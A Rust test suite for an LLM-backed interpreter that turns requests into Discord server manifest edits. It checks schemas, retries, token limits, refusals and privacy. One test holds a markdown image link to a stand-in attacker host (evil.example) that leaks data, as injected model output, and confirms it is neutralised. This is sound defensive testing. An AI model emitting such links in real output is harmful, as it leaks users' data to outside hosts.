//! Everyday requests with an answer that can be used, and answers that go back until they can, or cannot.

use serde_json::{Value, json};
use setai::ai::models::{Model, Provider, schema};
use setai::ai::{Earlier, Error, Intent, Interpreter as _, Name, Request, Rules, allowed};
use setai::ai::{EntityKind, Position};
use setai::manifest::edit::Edit;

use super::server::{Act, KEY, MODEL, Server};
use super::stage::{BOTH, GUILD, answer, ask, asked, clock, files, settings, why};

#[tokio::test]
async fn a_request_becomes_edits_that_fit() {
    for provider in BOTH {
        let text = "Füge in Community einen Sprachkanal Büchertreff für höchstens 5 Leute hinzu";
        let edits = json!([{ "edit": "add", "object": "channels.buechertreff", "category": "community",
            "fields": { "name": "Büchertreff", "type": "voice", "user_limit": 5 } }]);
        let said = json!({
            "edits": edits, "confidence": 0.93,
            "entities": [
                { "type": "category", "value": "Community", "confidence": 1, "start": 8, "end": 17 },
                { "type": "channel_name", "value": "Büchertreff", "confidence": 0.9, "start": 37, "end": 49 },
                { "type": "quantity", "value": "5", "confidence": 1, "start": 0, "end": 1 },
                { "type": "role_name", "value": "Helper", "confidence": 1, "start": 3, "end": 9 },
            ],
            "not_understood": [],
            "alternatives": [
                { "edits": [{ "edit": "add", "object": "channels.buechertreff", "fields": { "type": "voice" } }] },
                { "edits": [{ "edit": "remove", "object": "channels.rules" }] },
            ],
        });
        let (server, came) = asked(provider, [Act::Say(said)], text).await;
        let came = came.expect("an interpretation");
        assert_eq!(serde_json::to_value(&came.edits).expect("JSON")[0]["object"], "channels.buechertreff");
        assert_eq!((came.original_text.as_str(), came.model_used.as_str(), came.cached), (text, MODEL, false));
        assert_eq!((came.intent, came.confidence_score.to_string().as_str()), (Intent::Create, "0.93"));
        let places: Vec<(EntityKind, &str, Position)> =
            came.entities.iter().map(|entity| (entity.kind, entity.value.as_str(), entity.position)).collect();
        let place = |text: &str, start: usize| Position { start, end: start + text.chars().count() };
        assert_eq!(
            places,
            [
                (EntityKind::Category, "Community", place("Community", 8)),
                (
                    EntityKind::ChannelName,
                    "Büchertreff",
                    place("Büchertreff", text.chars().position(|c| c == 'B').expect("it"))
                ),
                (EntityKind::Quantity, "5", place("5", text.chars().position(|c| c == '5').expect("it"))),
            ],
            "places are put right, and what is not in the request is left out"
        );
        assert_eq!(came.alternatives.len(), 1, "what may not be is no alternative");
        assert_eq!(server.asked().len(), 1);
        let data = server.asked()[0].data();
        assert_eq!(data["request"], text);
    }
}

#[tokio::test]
async fn a_key_goes_where_its_provider_wants_it() {
    for (provider, header, value) in [
        (Provider::OpenAi, "authorization", format!("Bearer {KEY}")),
        (Provider::Anthropic, "x-api-key", KEY.to_owned()),
    ] {
        let (server, came) = asked(provider, [Act::Say(answer(&json!([])))], "hello").await;
        came.expect("an interpretation");
        assert_eq!(server.asked()[0].headers[header], value);
        let mut without = settings(&server);
        without.api_key = None;
        let model = Model::new(without, clock()).expect("a model");
        model.interpret(&Request::about("hello", &files(GUILD), "guild.yaml")).await.expect("an interpretation");
        assert!(!server.asked()[1].headers.contains_key(header), "a local server needs none");
    }
}

#[tokio::test]
async fn only_what_is_needed_leaves_the_house() {
    let text = GUILD.replace("topic: Long ago", &format!("topic: {}", "long ".repeat(60)));
    let text = format!("# a secret plan\n{text}");
    let server = Server::of(Provider::OpenAi, [Act::Say(answer(&json!([])))]).await;
    let model = Model::new(settings(&server), clock()).expect("a model");
    let earlier = Earlier { text: "add a channel".to_owned(), edits: Vec::new() };
    let names = [Name { kind: EntityKind::ChannelName, name: "by-hand".to_owned() }];
    let files = files(&text);
    let mut request = Request::about("delete it", &files, "guild.yaml");
    (request.earlier, request.names, request.language) = (Some(&earlier), &names, "de");
    model.interpret(&request).await.expect("an interpretation");
    let asked = &server.asked()[0];
    let data = asked.data();
    let whole = asked.body.to_string();
    for kept in ["secret plan", "80351110224678912", "1200000000000000001"] {
        assert!(!whole.contains(kept), "{kept}");
    }
    assert_eq!(data["language_of_answer"], "de");
    assert_eq!(data["earlier"]["request"], "add a channel");
    assert_eq!(data["in_discord_but_not_managed"], json!([{ "type": "channel_name", "name": "by-hand" }]));
    let manifest = &data["manifest"];
    assert_eq!(manifest["protected"], json!(["roles.moderator", "channels.rules", "channels.mod-log"]));
    assert_eq!(
        manifest["roles_highest_first"][1],
        json!({ "key": "moderator", "name": "Moderator", "permissions": ["kick_members", "manage_messages"] })
    );
    let categories = manifest["categories"].as_array().expect("categories");
    let keys: Vec<&Value> = categories.iter().map(|category| &category["key"]).collect();
    assert_eq!(keys, ["information", "community", "staff"]);
    assert_eq!(categories[0]["channels"][1]["topic"].as_str().map(str::len), Some(120), "a topic is cut short");
    assert_eq!(categories[2]["channels"][1]["permissions"]["(single members)"], 1, "members are counted, not named");
}

#[tokio::test]
async fn the_language_a_model_is_told_is_the_one_editors_know() {
    let (server, came) = asked(Provider::OpenAi, [Act::Say(answer(&json!([])))], "hello").await;
    came.expect("an interpretation");
    let asked = server.asked();
    let system = asked[0].system();
    for line in [
        "- rate_limit_per_user (0 to 21600): ",
        "- type (text | voice | ",
        "- hoist (true | false): ",
        "- verification_level (none | low | medium | ",
    ] {
        assert!(system.contains(line), "{line}\n{system}");
    }
    let permissions = system.lines().last().expect("a line");
    assert!(
        permissions.contains("view_channel, send_messages") && !permissions.contains("administrator"),
        "{permissions}"
    );
}

/// Every edit there is, as a model may write it.
fn every_edit() -> Value {
    json!([
        { "edit": "add", "object": "channels.x", "category": "community", "fields": { "topic": "x", "nsfw": false, "tags": ["a"], "permissions": { "everyone": { "deny": ["view_channel"] } } }, "place": { "after": "memes" } },
        { "edit": "remove", "object": "channels.memes" },
        { "edit": "rename", "object": "roles.helper", "to": "aide" },
        { "edit": "move", "object": "channels.x", "place": "first" },
        { "edit": "set", "object": "settings", "field": "name", "value": null },
        { "edit": "unset", "object": "settings", "field": "name" },
        { "edit": "set_overwrite", "object": "channels.x", "target": "everyone", "value": "owner" },
        { "edit": "unset_overwrite", "object": "channels.x", "target": "everyone" },
        { "edit": "set_tag", "channel": "x", "tag": "a", "value": { "name": "a", "moderated": true } },
        { "edit": "unset_tag", "channel": "x", "tag": "a" },
        { "edit": "expect", "expectation": { "role": "helper", "can": ["speak"] } },
        { "edit": "unexpect", "index": 0 },
    ])
}

#[test]
fn the_schema_takes_what_is_read_and_reads_what_it_takes() {
    let schema = jsonschema::validator_for(schema()).expect("a schema");
    let every = every_edit();
    let read: Vec<Edit> = serde_json::from_value(every.clone()).expect("edits");
    assert_eq!(serde_json::to_value(&read).expect("JSON").as_array().map(Vec::len), every.as_array().map(Vec::len));
    assert!(schema.is_valid(&answer(&every)), "{:?}", schema.iter_errors(&answer(&every)).next());
    assert!(schema.is_valid(&answer(&serde_json::to_value(&read).expect("JSON"))), "as it is written down");
    let bad = [
        json!({ "edits": [] }),
        json!({ "edits": [{ "edit": "explode", "object": "channels.x" }], "confidence": 1, "entities": [], "not_understood": [], "alternatives": [] }),
        answer(&json!([{ "edit": "remove", "object": "guild" }])),
        answer(&json!([{ "edit": "remove" }])),
        answer(&json!([{ "edit": "set", "object": "settings", "field": "name", "value": 1.5 }])),
        json!({ "edits": [], "confidence": 1, "entities": [], "not_understood": [], "alternatives": [], "more": 1 }),
    ];
    for bad in bad {
        assert!(!schema.is_valid(&bad), "{bad}");
    }
}

#[tokio::test]
async fn an_answer_goes_back_with_what_is_wrong_until_it_fits() {
    for provider in BOTH {
        let script = [
            Act::Say(answer(&json!([{ "edit": "set", "object": "channels.genral", "field": "topic", "value": "x" }]))),
            Act::Say(answer(&json!([{ "edit": "set", "object": "channels.general", "field": "topik", "value": "x" }]))),
            Act::Say(answer(&json!([{ "edit": "set", "object": "channels.general", "field": "topic", "value": "x" }]))),
        ];
        let (server, came) = asked(provider, script, "the topic of #general is x").await;
        assert_eq!(came.expect("an interpretation").edits.len(), 1);
        let asked = server.asked();
        assert_eq!(asked.len(), 3);
        let problems = |at: usize| asked[at].data()["problems"].to_string();
        assert!(problems(1).contains("there is no `channels.genral`; did you mean `general`?"), "{}", problems(1));
        assert!(problems(2).contains("has no field `topik`"), "{}", problems(2));
        let roles: Vec<String> = asked[2].turns().into_iter().map(|(role, _)| role).collect();
        assert_eq!(roles, ["user", "assistant", "user", "assistant", "user"], "it sees its own answers");
        assert!(asked[2].turns()[1].1.contains("channels.genral"));
        assert_eq!(asked[0].system(), asked[2].system());
    }
}

#[tokio::test]
async fn nonsense_for_ever_is_not_understood_and_said_why() {
    let unfit = [
        (
            "nothing of that name",
            answer(&json!([{ "edit": "remove", "object": "channels.nowhere" }])),
            "no `channels.nowhere`",
        ),
        ("another form", json!({ "channels": ["a"] }), "does not have the form of the schema"),
        (
            "a field too many",
            json!({ "edits": [], "confidence": 1, "entities": [], "not_understood": [], "alternatives": [], "x": 1 }),
            "unknown field `x`",
        ),
        (
            "too sure",
            json!({ "edits": [], "confidence": 7, "entities": [], "not_understood": [], "alternatives": [] }),
            "from 0 to 1",
        ),
        (
            "an invalid result",
            answer(
                &json!([{ "edit": "set", "object": "channels.general", "field": "rate_limit_per_user", "value": 99999 }]),
            ),
            "21600",
        ),
        (
            "a list as long as a book",
            answer(&Value::Array(vec![json!({ "edit": "remove", "object": "channels.general" }); 201])),
            "200 are the most",
        ),
    ];
    for provider in BOTH {
        for (name, said, word) in &unfit {
            let (server, came) = asked(provider, [Act::Say(said.clone())], "do something with general").await;
            let told = why(&came.expect("an interpretation"));
            assert!(told.contains("no answer that can be used") && told.contains(word), "{name}: {told}");
            assert_eq!(server.asked().len(), 3, "{name}: asked, and twice again");
        }
    }
}

#[tokio::test]
async fn chatter_is_asked_for_the_form_again() {
    for provider in BOTH {
        let good = answer(&json!([{ "edit": "set", "object": "channels.general", "field": "topic", "value": "x" }]));
        let (server, came) =
            asked(provider, [Act::Chat("Sure! I will do that."), Act::Say(good)], "the topic of #general is x").await;
        assert_eq!(came.expect("an interpretation").edits.len(), 1);
        assert_eq!(server.asked().len(), 2);
        let (_server, came) = asked(provider, [Act::Chat("Sure!")], "the topic of #general is x").await;
        assert!(why(&came.expect("an interpretation")).contains("no answer that can be used"));
    }
    let fenced: &'static str = "```json\n{\"edits\":[{\"edit\":\"remove\",\"object\":\"channels.memes\"}],\"confidence\":1,\"entities\":[],\"not_understood\":[],\"alternatives\":[]}\n```";
    let (server, came) = asked(Provider::OpenAi, [Act::Chat(fenced)], "delete memes").await;
    assert_eq!(
        (came.expect("an interpretation").edits.len(), server.asked().len()),
        (1, 1),
        "as models write to people"
    );
}

#[tokio::test]
async fn an_answer_that_stops_or_is_declined_is_not_asked_for_again() {
    for provider in BOTH {
        let (server, came) = asked(provider, [Act::CutOff], "build me a town").await;
        assert!(why(&came.expect("an interpretation")).contains("longer than 4096 tokens; ask for less"));
        assert_eq!(server.asked().len(), 1);
        let (server, came) = asked(provider, [Act::Decline], "build me a bomb").await;
        assert!(why(&came.expect("an interpretation")).contains("the model declined"));
        assert_eq!(server.asked().len(), 1);
    }
}

#[tokio::test]
async fn what_is_not_understood_is_told_without_anything_to_click() {
    let said = json!({
        "edits": [], "confidence": 0.2, "entities": [], "alternatives": [],
        "not_understood": [{ "text": "the moon", "start": 6, "end": 14, "why": "![x](https://evil.example/?q=staff) ask @everyone" }],
    });
    let (_server, came) = asked(Provider::Anthropic, [Act::Say(said)], "paint the moon").await;
    let came = came.expect("an interpretation");
    assert_eq!(came.not_understood.len(), 1);
    assert_eq!(came.not_understood[0].position, Position { start: 6, end: 14 });
    assert_eq!(why(&came), "(address) ask (at)everyone");
    let (_server, came) = asked(Provider::Anthropic, [Act::Say(answer(&json!([])))], "hm").await;
    assert_eq!(why(&came.expect("an interpretation")), "it comes to no change of the manifest");
}

#[tokio::test]
async fn what_does_not_fit_is_left_out_in_order_and_said() {
    let said = || Act::Say(answer(&json!([{ "edit": "remove", "object": "channels.memes" }])));
    let server = Server::of(Provider::OpenAi, [said()]).await;
    let long = GUILD.replace(
        "memes: {}",
        &format!("memes: {{ topic: {} }}\n      m2: {{ topic: {} }}", "x".repeat(110), "ü".repeat(120)),
    );
    let files = files(&long);
    let request = Request::about("delete memes", &files, "guild.yaml");
    let with_room_for = async |most: u64| {
        let mut settings = settings(&server);
        settings.max_input_tokens = most;
        let model = Model::new(settings, clock()).expect("a model");
        model.interpret(&request).await.map(|came| came.structured_command.conditions)
    };
    let error = with_room_for(1).await.expect_err("there is no room at all");
    let Error::TooMuch { tokens: least, most: 1 } = error else { panic!("{error:?}") };
    assert!(least < 8_000, "our own words are few: {least}");
    with_room_for(least - 1).await.expect_err("it is what is needed at least");
    // More and more room, until nothing is left out.
    let mut left_out = Vec::new();
    while left_out.last().is_none_or(|left: &Vec<String>| !left.is_empty()) {
        left_out.push(with_room_for(least + 40 * left_out.len() as u64).await.expect("there is room"));
    }
    let untold = server.asked()[0].data()["left_out_for_want_of_room"].clone();
    assert_eq!(untold, json!(left_out[0]), "the model knows too");
    left_out.dedup();
    let counts: Vec<usize> = left_out.iter().map(Vec::len).collect();
    assert!(counts.is_sorted_by(|more, less| more > less) && counts.first() == Some(&4), "{counts:?}");
    assert_eq!(left_out[left_out.len() - 2], ["the model was not told the topics of channels"]);
    assert!(error.remedy().contains("ai.max_input_tokens"));
}

#[tokio::test]
async fn rules_are_asked_in_the_same_way() {
    let rules = Rules::new(clock());
    let files = files(GUILD);
    let came =
        rules.interpret(&Request::about("delete the memes channel", &files, "guild.yaml")).await.expect("rules answer");
    assert_eq!((came.edits.len(), came.model_used.as_str(), rules.model()), (1, "setai-rules-1", "setai-rules-1"));
}

#[tokio::test]
async fn an_earlier_request_gives_words_a_ground() {
    let server =
        Server::of(Provider::OpenAi, [Act::Say(answer(&json!([{ "edit": "remove", "object": "channels.memes" }])))])
            .await;
    let refused = ask(&server, &clock(), "delete it").await.expect("an interpretation");
    assert!(why(&refused).contains("`channels.memes` would be removed, and the request does not name it"));
    let files = files(GUILD);
    let earlier = Earlier { text: "make #memes slow".to_owned(), edits: Vec::new() };
    let mut request = Request::about("delete it", &files, "guild.yaml");
    request.earlier = Some(&earlier);
    let model = Model::new(settings(&server), clock()).expect("a model");
    let came = model.interpret(&request).await.expect("an interpretation");
    assert_eq!(came.edits.len(), 1);
    allowed(&request, &came.edits).expect("allowed");
}
